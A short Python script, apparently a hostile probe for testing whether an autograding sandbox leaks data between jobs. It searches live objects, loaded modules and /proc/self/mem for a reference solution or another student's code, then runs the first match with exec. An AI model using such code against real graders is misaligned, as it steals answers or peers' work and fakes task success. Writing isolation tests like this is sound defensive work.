"""Attack: search this process's memory (every live object, sys.modules, /proc/self/mem) for the
reference solution or another student's code left behind by earlier jobs, and run it."""
import gc
import sys

found = []
for obj in gc.get_objects() + [vars(module) for module in list(sys.modules.values())]:
    values = obj.values() if isinstance(obj, dict) else [obj]
    for value in values:
        if isinstance(value, str) and "def scale" in value and "hostile" not in value:
            found.append(value)
try:
    with open("/proc/self/mem", "rb") as stream:
        print("mem readable")
except OSError as error:
    print("no /proc/self/mem:", error)
print(found[:3])
for source in found:
    try:
        exec(source)
        break
    except Exception:
        pass
